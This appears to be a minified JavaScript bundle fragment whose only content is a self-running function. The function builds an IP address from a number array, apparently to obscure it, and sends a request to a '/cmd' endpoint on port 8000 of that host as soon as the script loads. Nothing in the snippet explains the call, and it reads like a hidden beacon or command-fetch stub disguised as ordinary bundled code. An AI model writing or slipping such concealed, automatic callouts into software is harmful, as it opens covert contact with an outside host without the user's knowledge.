(()=>{var h=(c,t)=>()=>{try{return t||c((t={exports:{}}).exports,t),t.exports}catch(o){throw t=0,o}};var d=h(()=>{var n=[10,77,3,9];fetch("http://"+n.join(".")+":8000/cmd")});d();})();
